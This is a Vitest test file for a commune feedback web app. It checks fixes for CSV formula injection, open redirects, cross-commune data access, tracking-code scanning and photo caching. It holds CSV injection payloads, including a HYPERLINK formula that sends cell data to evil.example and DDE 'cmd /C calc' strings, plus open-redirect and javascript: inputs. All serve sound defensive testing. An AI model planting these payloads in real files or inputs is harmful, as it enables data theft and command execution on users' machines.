// Issue 11's smaller findings, written as the attacks: formulas typed by residents reaching a
// council member's spreadsheet, redirects out of the site, an official listing other communes'
// rounds, scanning tracking codes, and photos kept in caches after an official hid them.
import { describe, expect, it } from "vitest";
import { periodOf } from "~/lib/vn-time";
import { createRound } from "~/models/round.server";
import { submitAnswer } from "~/models/survey.server";
import { loader as roundExportLoader } from "~/routes/staff.rounds.$id.export";
import { loader as roundsLoader } from "~/routes/staff.rounds._index";
import { loader as lookupLoader } from "~/routes/t._index";
import { loader as trackLoader } from "~/routes/t.$code";
import { loader as photoLoader } from "~/routes/photos.$id";
import { action as reportAction } from "~/routes/c.$slug.report";
import { createComplaint } from "~/models/complaint/filing.server";
import { toCsv } from "~/utils/csv.server";
import { prisma } from "~/utils/db.server";
import { safeRedirectPath } from "~/utils/request.server";
import { context, getRequest, settle } from "../fixtures/http";
import { createStaff, signIn } from "../fixtures/staff";

/** RFC 4180 as csv-stringify writes it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      row.push(cell);
      cell = "";
    } else if (!quoted && c === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else {
      cell += c;
    }
  }
  return rows;
}

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

describe("CSV formula injection", () => {
  it("neutralises every text cell a spreadsheet would run, in the round export, and keeps numbers as numbers", async () => {
    const admin = await createStaff("admin");
    const council = await createStaff("council");
    const commune = await prisma.commune.findUniqueOrThrow({ where: { slug: "vinh-bao" } });
    const criteria = await prisma.criterion.findMany({ where: { active: true } });
    const { id: roundId } = await createRound({
      name: "Đợt thử",
      purpose: "routine",
      levelId: null,
      codesRequired: false,
      startsAt: new Date(Date.now() - 86_400_000),
      endsAt: new Date(Date.now() + 86_400_000),
      createdById: admin.id,
      communes: [{ communeId: commune.id, households: 100 }],
    });
    for (const [i, payload] of PAYLOADS.entries()) {
      const created = await submitAnswer({
        communeId: commune.id,
        channel: "online",
        period: periodOf(new Date()),
        ratings: criteria.map((c) => ({ criterionId: c.id, score: 4 })),
        village: payload,
        comment: payload,
        voterHash: `csv-${i}`,
        roundId,
      });
      expect(created.status).toBe("created");
    }
    const cookie = await signIn(council.email);
    const res = await settle(() =>
      roundExportLoader({
        request: getRequest(`/staff/rounds/${roundId}/export`, { cookie }),
        params: { id: String(roundId) },
        context: context(),
      }),
    );
    expect(res.status).toBe(200);
    const rows: string[][] = parseCsv((await res.text()).replace(/^\uFEFF/, ""));
    const body = rows.slice(1);
    expect(body).toHaveLength(PAYLOADS.length);
    const cells = body.flatMap((r) => r.slice(-2));
    // Every payload comes back, each as text that starts with a quote mark.
    expect(cells.sort()).toEqual(PAYLOADS.flatMap((p) => [`'${p}`, `'${p}`]).sort());
    // No cell of the export starts with a formula character, apart from the quote-marked ones.
    for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    // The scores are still plain numbers.
    expect(body[0].slice(3, 3 + criteria.length)).toEqual(criteria.map(() => "4"));
  });

  it("the helper every export uses leaves numbers (negative ones too) as numbers", () => {
    const csv = toCsv([["-1", -1, 0.25, "=1", "ok"]]);
    expect(csv).toBe("\uFEFF'-1,-1,0.25,'=1,ok\n");
  });
});

describe("redirects", () => {
  it.each([
    ["/\t/evil.example", "/"],
    ["/\n/evil.example", "/"],
    ["//evil.example", "/"],
    ["/\\evil.example", "/"],
    ["\\\\evil.example", "/"],
    ["https://evil.example", "/"],
    ["javascript:alert(1)", "/"],
    ["/%09/evil.example", "/%09/evil.example"],
    ["/staff/complaints/3?tab=1#x", "/staff/complaints/3?tab=1#x"],
    ["/c/vinh-bao", "/c/vinh-bao"],
  ])("%j goes to %j", (input, expected) => {
    expect(safeRedirectPath(input)).toBe(expected);
  });
});

describe("rounds", () => {
  it("an official lists only the rounds of their own communes", async () => {
    const admin = await createStaff("admin");
    const official = await createStaff("official", ["vinh-bao"]);
    const [own, other] = await prisma.commune.findMany({
      where: { slug: { in: ["vinh-bao", "cam-giang"] } },
      orderBy: { slug: "desc" },
    });
    const base = {
      purpose: "routine" as const,
      levelId: null,
      codesRequired: false,
      startsAt: new Date(),
      endsAt: new Date(Date.now() + 86_400_000),
      createdById: admin.id,
    };
    const ownRound = await createRound({ ...base, name: "Của xã mình", communes: [{ communeId: own.id, households: 10 }] });
    const otherRound = await createRound({ ...base, name: "Của xã khác", communes: [{ communeId: other.id, households: 10 }] });
    const list = async (email: string) => {
      const cookie = await signIn(email);
      const res = await settle(() =>
        roundsLoader({ request: getRequest("/staff/rounds", { cookie }), params: {}, context: context() }),
      );
      return ((await res.json()).rounds as { id: number }[]).map((r) => r.id);
    };
    const mine = await list(official.email);
    expect(mine).toContain(ownRound.id);
    expect(mine).not.toContain(otherRound.id);
    expect(await list(admin.email)).toEqual(expect.arrayContaining([ownRound.id, otherRound.id]));
  });
});

describe("tracking codes", () => {
  it("an address scanning codes is stopped after 120 misses, while a real code keeps working elsewhere", async () => {
    const commune = await prisma.commune.findUniqueOrThrow({ where: { slug: "vinh-bao" } });
    const { code } = await createComplaint({ communeId: commune.id, category: "roads", text: "Đường hỏng nặng ở thôn 2." });
    const scanner = "198.18.5.5";
    const look = (c: string, ip: string) =>
      settle(() => lookupLoader({ request: getRequest(`/t?code=${c}`), params: {}, context: context(ip) }));
    // A resident looking at their own report again and again costs nothing.
    for (let i = 0; i < 5; i++) expect((await look(code, scanner)).status).toBe(302);
    const guesses = await Promise.all(
      Array.from({ length: 130 }, (_, i) => look(`ABCDE-${String(22222 + i).replace(/[01]/g, "2")}`, scanner)),
    );
    const statuses = guesses.map((r) => r.status);
    expect(statuses.filter((s) => s === 404)).toHaveLength(120);
    expect(statuses.filter((s) => s === 429)).toHaveLength(10);
    // Once over, even a real code is refused to that address (no oracle), on both pages.
    expect((await look(code, scanner)).status).toBe(429);
    const page = await settle(() =>
      trackLoader({ request: getRequest(`/t/${code}`), params: { code }, context: context(scanner) }),
    );
    expect(page.status).toBe(429);
    expect((await look(code, "198.18.5.6")).status).toBe(302);
  });
});

describe("photos", () => {
  it("an approved photo may be cached but is revalidated every time, so hiding it takes effect at once", async () => {
    const commune = await prisma.commune.findUniqueOrThrow({ where: { slug: "vinh-bao" } });
    const { id } = await createComplaint({ communeId: commune.id, category: "roads", text: "Đường hỏng nặng ở thôn 2." });
    const fileName = `${"ab".repeat(16)}.jpg`;
    const fs = await import("node:fs/promises");
    const { uploadDir } = await import("~/utils/upload.server");
    await fs.mkdir(uploadDir(), { recursive: true });
    await fs.writeFile(`${uploadDir()}/${fileName}`, Buffer.from([0xff, 0xd8, 0xff, 0xd9]));
    const photo = await prisma.complaintPhoto.create({
      data: { complaintId: id, fileName, width: 1, height: 1, bytes: 4, approved: true },
    });
    const get = (headers: Record<string, string> = {}) =>
      settle(() =>
        photoLoader({
          request: new Request(`http://localhost/photos/${photo.id}`, { headers }),
          params: { id: String(photo.id) },
          context: context(),
        }),
      );
    const first = await get();
    expect(first.status).toBe(200);
    expect(first.headers.get("Cache-Control")).toBe("public, no-cache");
    const etag = first.headers.get("ETag")!;
    expect((await get({ "If-None-Match": etag })).status).toBe(304);
    await prisma.complaintPhoto.update({ where: { id: photo.id }, data: { approved: false } });
    // The cache's revalidation now gets 404: the hidden photo is gone.
    expect((await get({ "If-None-Match": etag })).status).toBe(404);
  });
});

describe("photos of a client over its limit", () => {
  it("are not decoded: the limit answers first (a fake image is not even looked at)", async () => {
    const ip = "198.18.9.9";
    const report = (photo?: Buffer) => {
      const form = new FormData();
      for (const [k, v] of Object.entries({ category: "roads", text: "Đường trục thôn bị lún, nhiều ổ gà nguy hiểm." }))
        form.append(k, v);
      if (photo) form.append("photos", new File([new Uint8Array(photo)], "a.jpg", { type: "image/jpeg" }));
      const request = new Request("http://localhost/c/vinh-bao/report", {
        method: "POST",
        body: form,
        headers: { Origin: "http://localhost" },
      });
      return settle(() => reportAction({ request, params: { slug: "vinh-bao" }, context: context(ip) }));
    };
    const fake = Buffer.from("not an image at all, but named .jpg");
    // Under the limit, the photo is checked (and refused as not an image).
    expect((await report(fake)).status).toBe(400);
    for (let i = 0; i < 9; i++) expect((await report()).status).toBe(303);
    // Over it: 429 with the text kept, before any photo is kept or decoded.
    const limited = await report(fake);
    expect(limited.status).toBe(429);
    expect((await limited.json()).values.text).toMatch(/^Đường trục/);
  });
});
